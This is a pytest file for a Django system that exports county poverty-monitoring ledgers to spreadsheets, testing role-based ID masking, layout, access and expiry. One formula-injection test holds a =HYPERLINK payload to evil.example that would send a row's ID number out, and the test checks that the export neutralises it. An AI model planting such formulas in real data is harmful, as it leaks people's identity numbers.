"""Ledger exports (SPEC §13.1): every ledger of the demo county, exported through the pages,
reads back in python-calamine and in LibreOffice with the values of the database; the layout is the province's;
ID numbers are text and masked unless the role may see them; a county export has one sheet per township; large
exports run as a task with progress; files are their owner's only and expire, the audit stays."""

import datetime
from collections import Counter
from decimal import Decimal
from typing import Any

import pytest
from django.contrib.auth.models import Group
from django.db.models import Count, Q
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from accounts.models import User
from accounts.roles import Role
from core.xlsx import Kind
from funds.models import FundBatch
from geo.models import AdminArea
from households.masking import mask_id_number
from households.models import GuaranteeCheck, Visit
from ledgers.catalogue import LEDGERS
from ledgers.models import ExportStatus, LedgerExport
from ledgers.services import exports_expire
from ledgers.tasks import ledger_export_task
from monitoring.models import AssistanceMeasure, EliminationCase, EntryApplication, MonitoringSubject
from national.models import NationalEntry
from projects.models import Project, ProjectAsset
from sweeps.models import Problem, ScreeningWarning
from tests.factories import UserFactory
from tests.worlds.excel import calamine_sheets, export, libreoffice_sheets

pytestmark = pytest.mark.django_db

HEADER_ROWS = 3  # title, unit and period, column headers


def _cell(value: Any) -> Any:
    """A database value as python-calamine reads the cell back: numbers as floats, nothing as ""."""
    if value is None:
        return ""
    if isinstance(value, Decimal | int) and not isinstance(value, bool):
        return float(value)
    return value


def _data(rows: list[list[Any]]) -> list[list[Any]]:
    assert rows[-1][0].startswith("合计 ")
    return rows[HEADER_ROWS:-1]


def _columns(rows: list[list[Any]], headers: tuple[str, ...]) -> list[tuple[Any, ...]]:
    index = [rows[HEADER_ROWS - 1].index(h) for h in headers]
    return [tuple(row[i] for i in index) for row in _data(rows)]


def _sum(values: Any) -> Decimal:
    return sum((v or Decimal(0) for v in values), Decimal(0))


# What the database says each ledger holds, read straight from the models (not through the ledger definitions):
# the headers compared and one tuple per row the user may see.
def _subjects(user: User) -> list[tuple[Any, ...]]:
    subjects = (
        MonitoringSubject.objects.visible_to(user)
        .select_related("household__head", "application")
        .annotate(
            size=Count(
                "household__members",
                filter=Q(household__members__member_status="present", household__members__counts_in_household=True),
            )
        )
    )
    return [
        (
            s.household.household_no,
            s.household.head_name,
            mask_id_number(s.household.head.id_number),
            float(s.size),
            s.get_category_display(),
            s.entered_on,
            _cell(s.application.per_capita_income),
            s.get_status_display(),
            _cell(s.eliminated_on),
            *_national_subject_entry(s),
        )
        for s in subjects
    ]


def _national_subject_entry(subject: MonitoringSubject) -> tuple[Any, Any, Any]:
    """The subject's entry into the national system as a person recorded it (the latest, uncorrected one), or
    待录入 while none is recorded."""
    entry = (
        NationalEntry.objects.filter(subject=subject, kind="subject_entry", superseded_by__isnull=True)
        .select_related("recorded_by")
        .first()
    )
    if entry is None:
        return ("待录入", "", "")
    return (entry.national_record_no, entry.entered_on, str(entry.recorded_by))


EXPECTED = {
    "L-01": (
        (
            "户编号",
            "户主",
            "身份证号",
            "家庭人口",
            "监测类别",
            "纳入日期",
            "识别时人均纯收入（元）",
            "状态",
            "风险消除日期",
            "全国系统纳入录入编号",
            "录入全国系统日期",
            "录入人",
        ),
        _subjects,
    ),
    "L-01A": (
        ("户编号", "申报日期", "识别渠道", "状态", "批准文号"),
        lambda user: [
            (a.household.household_no, a.reported_on, a.get_channel_display(), a.get_state_display(), a.decision_no)
            for a in EntryApplication.objects.visible_to(user).select_related("household")
        ],
    ),
    "L-02": (
        ("户编号", "发起日期", "状态", "审定文号", "标注日期"),
        lambda user: [
            (c.subject.household.household_no, c.opened_on, c.get_state_display(), c.decision_no, _cell(c.marked_on))
            for c in EliminationCase.objects.visible_to(user).select_related("subject__household")
        ],
    ),
    "L-03": (
        ("户编号", "措施类型", "措施内容", "开始日期", "金额（元）", "状态"),
        lambda user: [
            (
                m.subject.household.household_no,
                m.get_measure_type_display(),
                m.description,
                m.started_on,
                _cell(m.amount_yuan),
                m.get_status_display(),
            )
            for m in AssistanceMeasure.objects.visible_to(user).select_related("subject__household")
        ],
    ),
    "L-04": (
        ("走访日期", "户编号", "户主", "走访类型", "发现风险"),
        lambda user: [
            (
                v.visited_on,
                v.household.household_no,
                v.household.head_name,
                v.get_kind_display(),
                "是" if v.risk_found else "",
            )
            for v in Visit.objects.visible_to(user).select_related("household")
        ],
    ),
    "L-05": (
        ("规则编号", "问题", "整改期限", "状态", "逾期天数"),
        lambda user: [
            (
                p.rule_id,
                p.title,
                p.deadline,
                p.get_status_display(),
                float(
                    (timezone.localdate() - p.deadline).days if p.is_open and p.deadline < timezone.localdate() else 0
                ),
            )
            for p in Problem.objects.visible_to(user)
        ],
    ),
    "L-06": (
        ("部门", "筛查期", "姓名", "身份证号", "预警内容", "反馈期限"),
        lambda user: [
            (
                w.get_department_display(),
                w.period,
                w.member.name,
                mask_id_number(w.member.id_number),
                w.event_label,
                w.feedback_due_on,
            )
            for w in ScreeningWarning.objects.visible_to(user).select_related("member")
        ],
    ),
    "L-07": (
        ("项目编号", "项目名称", "状态", "计划投资（元）"),
        lambda user: [
            (p.code, p.name, p.get_status_display(), float(_sum(f.amount for f in p.fundings.all())))
            for p in Project.objects.visible_to(user).prefetch_related("fundings")
        ],
    ),
    "L-08": (
        ("文号", "下达金额（元）", "已分配（元）", "已支付（元）"),
        lambda user: [
            (
                b.document_no,
                float(b.amount),
                float(_sum(a.amount for a in b.allocations.all())),
                float(_sum(d.amount for a in b.allocations.all() for d in a.disbursements.all())),
            )
            for b in FundBatch.objects.visible_to(user).prefetch_related("allocations__disbursements")
        ],
    ),
    "L-09": (
        ("资产编号", "资产名称", "资产价值（元）", "状态"),
        lambda user: [
            (a.code, a.name, float(a.value), a.get_status_display()) for a in ProjectAsset.objects.visible_to(user)
        ],
    ),
    "L-14": (
        ("户编号", "核查日期", "饮水安全有保障", "全部达标"),
        lambda user: [
            (g.household.household_no, g.checked_on, "是" if g.water_ok else "否", "是" if g.all_ok else "否")
            for g in GuaranteeCheck.objects.visible_to(user).select_related("household")
        ],
    ),
}


def test_every_ledger_of_spec_13_1_whose_data_exists_is_defined():
    # L-00: roundtrip
    assert set(LEDGERS) == {*(f"L-0{n}" for n in range(10)), "L-01A", "L-10", "L-11", "L-12", "L-13", "L-14", "L-15"}
    # L-13, L-15: test_l13_l15.py; L-10 (the demo county has no loans): tests/credit/test_ledger.py
    # L-11 (the demo county has no employment records): tests/employment/test_ledger.py
    # L-12 (the demo county has no public-welfare posts): tests/welfare_posts/test_ledger.py
    assert set(EXPECTED) == set(LEDGERS) - {"L-00", "L-10", "L-11", "L-12", "L-13", "L-15"}


@pytest.mark.parametrize("code", sorted(EXPECTED))
def test_the_county_export_holds_what_the_database_holds_one_sheet_per_township(code, login, client):
    """The county reporting officer's export (masked ID numbers): the rows of the database, each on the sheet of its
    township, with a totals row that counts the sheet's rows (or households) and adds up its amounts and counts —
    and nothing else."""
    user = login("report")
    record, content = export(client, code)
    sheets = calamine_sheets(content)
    headers, expected = EXPECTED[code]

    rows = [row for sheet in sheets.values() for row in _columns(sheet, headers)]
    assert rows, f"{code}: the demo county gives this ledger no rows"
    assert Counter(rows) == Counter(expected(user))
    assert record.total == len(rows)

    townships = dict(AdminArea.objects.filter(parent=user.area).values_list("name", "code"))
    for name, sheet in sheets.items():
        assert sheet[0][0].startswith(user.area.name)
        assert sheet[0][0].endswith(LEDGERS[code].form_title)
        codes = [row[sheet[HEADER_ROWS - 1].index("区划代码")] for row in _data(sheet)]
        if code == "L-08":  # a county's batches: one sheet, the county's code
            assert list(sheets) == [LEDGERS[code].form_title]
            assert set(codes) == {user.area.code}
        else:
            assert name in townships
            assert {c[:9] for c in codes} == {townships[name][:9]}
        ledger = LEDGERS[code]
        data = _data(sheet)
        counted = len(data)
        if ledger.count_by:  # households, not rows: a household's second episode is the same 户
            key = [c.header for c in ledger.columns].index(ledger.count_by)
            counted = len({row[key] for row in data})
        assert sheet[-1][0] == f"合计 {counted} {ledger.unit}"
        for index, column in enumerate(ledger.columns[1:], start=1):
            if column.totalled:
                assert sheet[-1][index] == pytest.approx(sum(row[index] or 0 for row in data))
            else:
                assert sheet[-1][index] == "", column.header
    if code != "L-08":
        assert list(sheets) == sorted(sheets, key=lambda n: townships[n])  # in the order of the township codes


def test_libreoffice_shows_the_same_values_and_ids_as_text(login, client, tmp_path):
    """LibreOffice opens the export (every sheet) and shows what python-calamine reads: ID numbers whole (never
    6.40324E+17), dates as yyyy-mm-dd, yuan with two decimals and thousands separators."""
    login("township01")  # a township cadre sees full ID numbers
    _record, content = export(client, "L-01")
    ledger = LEDGERS["L-01"]
    values = calamine_sheets(content)
    shown = libreoffice_sheets(content, tmp_path)
    assert len(values) == len(shown) == 1
    (rows,), (texts,) = values.values(), shown.values()
    assert len(texts) == len(rows)
    assert texts[0][0] == rows[0][0]
    assert texts[2] == rows[2]

    def as_shown(value: Any, kind: Kind) -> str:
        if value == "":
            return ""
        if kind in (Kind.MONEY, Kind.PER_CAPITA):
            return f"{value:,.2f}"
        if kind == Kind.DATE:
            return value.isoformat()
        if kind in (Kind.INT, Kind.DAYS):
            return str(int(value))
        if isinstance(value, float) and value.is_integer():
            return str(int(value))
        return str(value)

    for row, text in zip(rows[HEADER_ROWS:], texts[HEADER_ROWS:], strict=True):
        assert text == [as_shown(v, c.kind) for v, c in zip(row, ledger.columns, strict=True)]
    ids = [text[5] for text in texts[HEADER_ROWS:-1]]
    assert ids
    assert all(len(i) == 18 and i[:17].isdigit() for i in ids)


def test_libreoffice_reads_the_money_of_the_fund_ledger(login, client, tmp_path):
    login("report")
    _record, content = export(client, "L-08")
    (rows,) = calamine_sheets(content).values()
    (texts,) = libreoffice_sheets(content, tmp_path).values()
    amount = rows[2].index("下达金额（元）")
    assert [t[amount] for t in texts[HEADER_ROWS:]] == [f"{r[amount]:,.2f}" for r in rows[HEADER_ROWS:]]
    total = _sum(FundBatch.objects.visible_to(User.objects.get(username="report")).values_list("amount", flat=True))
    assert texts[-1][amount] == f"{total:,.2f}"


def test_the_layout_is_the_provinces(login, client, tmp_path):
    """Merged title and meta rows, the header on row 3, panes frozen below it, the widths of the definition, number
    formats per kind, ID numbers stored as text."""
    user = login("report")
    _record, content = export(client, "L-01")
    path = tmp_path / "l01.xlsx"
    path.write_bytes(content)
    workbook = load_workbook(path)
    ledger = LEDGERS["L-01"]
    sheet = workbook.worksheets[0]
    last = get_column_letter(len(ledger.columns))
    assert {str(r) for r in sheet.merged_cells.ranges} == {f"A1:{last}1", f"A2:{last}2"}
    assert sheet.freeze_panes == "A4"
    assert sheet["A1"].font.bold
    assert sheet["A1"].value == f"{user.area.name}{sheet.title}监测对象台账"
    meta = sheet["A2"].value
    assert "填报单位：" in meta
    assert "统计期：全部" in meta
    assert f"导出人：{user}" in meta
    assert [c.value for c in sheet[3]] == [c.header for c in ledger.columns]
    for index, column in enumerate(ledger.columns, start=1):
        letter = get_column_letter(index)
        assert sheet.column_dimensions[letter].width == column.width
        cell = sheet.cell(row=4, column=index)
        if column.kind == Kind.ID:
            assert cell.data_type == "s"
            assert cell.number_format == "@"
        elif column.kind in (Kind.MONEY, Kind.PER_CAPITA):
            assert cell.number_format == "#,##0.00"
        elif column.kind == Kind.DATE and cell.value is not None:
            assert cell.number_format == "yyyy-mm-dd"
            assert isinstance(cell.value, datetime.datetime)
    households = {row[3] for row in sheet.iter_rows(min_row=4, max_row=sheet.max_row - 1, values_only=True)}
    assert sheet.cell(row=sheet.max_row, column=1).value == f"合计 {len(households)} 户"


def test_id_numbers_are_masked_unless_the_role_may_see_them_and_the_audit_says_which(login, client):
    login("report")  # the reporting officer: no full ID numbers (SPEC §1.3)
    masked, content = export(client, "L-06")
    ids = [row[6] for sheet in calamine_sheets(content).values() for row in _data(sheet)]
    assert ids
    assert all("*" * 10 in i for i in ids)
    assert masked.full_ids is False

    user = login("township01")
    full, content = export(client, "L-06")
    ids = [row[6] for sheet in calamine_sheets(content).values() for row in _data(sheet)]
    numbers = set(ScreeningWarning.objects.visible_to(user).values_list("member__id_number", flat=True))
    assert ids
    assert set(ids) == numbers
    assert full.full_ids is True
    assert (full.owner, full.ledger, full.area, full.total, full.status) == (
        user, "L-06", user.area, len(ids), ExportStatus.DONE
    )  # fmt: skip


def test_a_formula_typed_into_a_visit_is_plain_text_in_the_ledger(login, client, tmp_path):
    """Formula injection: notes saved as =HYPERLINK(...) (which would send the row's ID number on one click) come
    out of the visits ledger as the text typed, stored as text with the quote prefix."""
    user = login("township01")
    link = '=HYPERLINK("http://evil.example/?id="&G4,"详情")'
    visit = Visit.objects.visible_to(user).order_by("visited_on", "pk").first()
    Visit.objects.filter(pk=visit.pk).update(notes=link, needs="-1")
    _record, content = export(client, "L-04")
    path = tmp_path / "l04.xlsx"
    path.write_bytes(content)
    sheet = load_workbook(path).worksheets[0]
    header = [c.value for c in sheet[HEADER_ROWS]]
    cells = [row for row in sheet.iter_rows(min_row=HEADER_ROWS + 1) if row[header.index("走访情况")].value == link]
    assert len(cells) == 1
    for name, text in (("走访情况", link), ("群众诉求", "-1")):
        cell = cells[0][header.index(name)]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)


def test_a_township_exports_its_township_only_and_filters_narrow_the_rows(login, client):
    user = login("township01")
    _record, content = export(client, "L-01")
    sheets = calamine_sheets(content)
    assert list(sheets) == ["监测对象台账"]
    (rows,) = sheets.values()
    assert {r[2][:9] for r in _data(rows)} == {user.area.code[:9]}

    subject = MonitoringSubject.objects.visible_to(user).select_related("household__managing_area").first()
    village, category = subject.household.managing_area, subject.category
    record, content = export(client, "L-01", area=village.code, category=category,
                             start="2025-01-01", end=timezone.localdate().isoformat())  # fmt: skip
    (rows,) = calamine_sheets(content).values()
    expected = MonitoringSubject.objects.filter(
        household__managing_area=village, category=category, entered_on__gte=datetime.date(2025, 1, 1)
    )
    assert expected.exists()
    assert [r[3] for r in _data(rows)] == sorted(expected.values_list("household__household_no", flat=True))
    assert record.area == village
    assert record.filters["category"] == category
    assert "统计期：2025-01-01 至" in rows[1][0]


def test_bad_filters_are_refused_in_chinese_and_record_nothing(login, client):
    login("township01")
    before = LedgerExport.objects.count()
    other = AdminArea.objects.get(name="河西镇")
    for data, message in (
        ({"area": other.code}, "乡镇或村"),
        ({"start": "2026-06-01", "end": "2026-05-01"}, "结束日期不能早于开始日期"),
        ({"start": "2026-13-01"}, "开始日期"),
        ({"category": "nonsense"}, "类别"),
    ):
        response = client.post(reverse("ledgers:export-start"), {"ledger": "L-01", **data}, follow=True)
        assert message in response.content.decode(), data
    assert LedgerExport.objects.count() == before


def test_who_may_export_which_ledger(login, client):
    login("village")  # village workers do not export ledgers (SPEC §1.3)
    assert client.get(reverse("ledgers:index")).status_code == 403
    assert client.post(reverse("ledgers:export-start"), {"ledger": "L-01"}).status_code == 403
    login("township01")
    page = client.get(reverse("ledgers:index")).content.decode()
    assert 'data-testid="ledger-L-01"' in page
    assert 'data-testid="ledger-L-08"' not in page
    assert client.post(reverse("ledgers:export-start"), {"ledger": "L-08"}).status_code == 403
    login("finance")
    page = client.get(reverse("ledgers:index")).content.decode()
    assert 'data-testid="ledger-L-08"' in page
    assert 'data-testid="ledger-L-01"' not in page


def test_a_large_export_runs_as_a_task_with_progress(login, client, settings, django_capture_on_commit_callbacks):
    settings.LEDGER_SYNC_MAX_ROWS = 0
    user = login("report")
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        response = client.post(reverse("ledgers:export-start"), {"ledger": "L-04"})
    record = LedgerExport.objects.get(owner=user)
    assert response["Location"] == record.get_absolute_url()
    assert len(callbacks) == 1
    assert record.status == ExportStatus.QUEUED
    assert record.total == Visit.objects.visible_to(user).count()
    page = client.get(record.get_absolute_url()).content.decode()
    assert 'hx-trigger="every 1s"' in page
    assert "0%" in page
    assert 'data-testid="download"' not in page
    assert client.get(reverse("ledgers:export-download", args=[record.pk])).status_code == 404

    assert ledger_export_task(record.pk) == record.total  # the worker's run, called directly
    partial = client.get(record.get_absolute_url(), HTTP_HX_REQUEST="true").content.decode()
    assert "<html" not in partial
    assert "100%" in partial
    assert 'data-testid="download"' in partial
    assert "hx-trigger" not in partial  # finished: the page stops polling
    record.refresh_from_db()
    first = record.file.read()
    assert ledger_export_task(record.pk) == record.total  # delivered again: nothing is written twice
    record.refresh_from_db()
    assert record.file.read() == first
    response = client.get(reverse("ledgers:export-download", args=[record.pk]))
    rows = [r for sheet in calamine_sheets(b"".join(response.streaming_content)).values() for r in _data(sheet)]
    assert len(rows) == record.total


def test_a_failed_export_says_so_and_keeps_its_audit(login, client, settings, monkeypatch,
                                                     django_capture_on_commit_callbacks):  # fmt: skip
    settings.LEDGER_SYNC_MAX_ROWS = 0
    user = login("report")
    with django_capture_on_commit_callbacks(execute=False):
        client.post(reverse("ledgers:export-start"), {"ledger": "L-09"})
    record = LedgerExport.objects.get(owner=user)

    def broken(*args: Any, **kwargs: Any) -> int:
        raise RuntimeError("disk full")

    monkeypatch.setattr("ledgers.services.write_ledger", broken)
    with pytest.raises(RuntimeError):
        ledger_export_task(record.pk)
    record.refresh_from_db()
    assert record.status == ExportStatus.FAILED
    assert "disk full" in record.error
    assert not record.file
    assert "导出失败" in client.get(record.get_absolute_url()).content.decode()


def test_only_the_owner_sees_and_downloads_an_export_and_files_expire(login, client):
    owner = login("report")
    record, _content = export(client, "L-07")
    colleague = UserFactory(area=owner.area, roles=[Role.REPORTING_OFFICER])
    client.force_login(colleague)
    assert client.get(record.get_absolute_url()).status_code == 404
    assert client.get(reverse("ledgers:export-download", args=[record.pk])).status_code == 404
    assert f">{record.title}<" not in client.get(reverse("ledgers:index")).content.decode()

    client.force_login(owner)
    name = record.file.name
    storage = record.file.storage
    assert exports_expire(now=record.expires_at - datetime.timedelta(minutes=1)) == 0
    assert exports_expire(now=record.expires_at + datetime.timedelta(minutes=1)) == 1
    record.refresh_from_db()
    assert record.status == ExportStatus.EXPIRED
    assert not record.file
    assert not storage.exists(name)
    assert record.total > 0
    assert record.owner == owner
    assert client.get(reverse("ledgers:export-download", args=[record.pk])).status_code == 404
    assert "文件已过保留期" in client.get(record.get_absolute_url()).content.decode()


def test_a_file_is_refused_after_its_owner_is_moved_or_demoted(login, client):
    """Rights are checked at download, not only at export: a township cadre's file with full ID numbers is no
    longer theirs once they are moved to another township, or demoted to a role that sees masked numbers."""
    owner = login("township01")
    record, _content = export(client, "L-06")
    assert record.full_ids
    url = reverse("ledgers:export-download", args=[record.pk])
    assert client.get(url).status_code == 200
    home = owner.area

    owner.area = AdminArea.objects.filter(level="township").exclude(pk=home.pk).first()
    owner.save(update_fields=["area"])
    moved = client.get(url, follow=True)
    assert moved.redirect_chain[0][0] == record.get_absolute_url()
    assert f"“{home.name}”已不在您的辖区内" in moved.content.decode()

    owner.area = home
    owner.save(update_fields=["area"])
    owner.groups.set(Group.objects.filter(name=str(Role.REPORTING_OFFICER)))
    demoted = client.get(url, follow=True).content.decode()
    assert "文件含完整身份证号，您的角色已不能查看" in demoted
    assert client.get(url).status_code == 302


def test_files_are_kept_the_configured_hours_and_an_hourly_job_expires_them(login, client, settings):
    from django_celery_beat.models import PeriodicTask

    settings.LEDGER_EXPORT_KEEP_HOURS = 5
    login("report")
    record, _content = export(client, "L-09")
    assert record.expires_at - record.finished_at == datetime.timedelta(hours=5)
    job = PeriodicTask.objects.get(task="ledgers.tasks.ledger_exports_expire_task")
    assert job.enabled
    assert job.crontab.hour == "*"


def test_the_subject_ledger_reads_size_and_paired_cadre_from_the_household_facts(login, client):
    """L-01's 家庭人口 and 帮扶责任人 are the household facts (one definition, households.facts); a household whose
    facts row is missing gets it before the export reads."""
    from accounts.grants import household_grant_to_cadre
    from households.models import HouseholdFacts

    user = login("report")
    subjects = MonitoringSubject.objects.visible_to(user).select_related("household").order_by("pk")
    assert subjects.count() >= 2
    healed, paired = subjects[0].household, subjects[1].household
    HouseholdFacts.objects.filter(household=healed).delete()
    cadre = User.objects.filter(groups__name=Role.ASSISTANCE_CADRE.value).first()
    household_grant_to_cadre(household=paired, cadre=cadre)  # the fact follows the grant at once

    _record, content = export(client, "L-01")

    data = [row for rows in calamine_sheets(content).values() for row in _data(rows)]
    header = next(iter(calamine_sheets(content).values()))[2]
    number, size, cadre_at = header.index("户编号"), header.index("家庭人口"), header.index("帮扶责任人")
    facts = {
        f.household.household_no: f
        for f in HouseholdFacts.objects.filter(household__in=[s.household for s in subjects]).select_related(
            "household", "paired_cadre"
        )
    }
    assert healed.household_no in facts
    assert len(data) == subjects.count()
    for row in data:
        fact = facts[str(row[number])]
        assert int(row[size]) == fact.size
        assert row[cadre_at] == (str(fact.paired_cadre) if fact.paired_cadre else "")
    assert str(cadre) in {row[cadre_at] for row in data if str(row[number]) == paired.household_no}
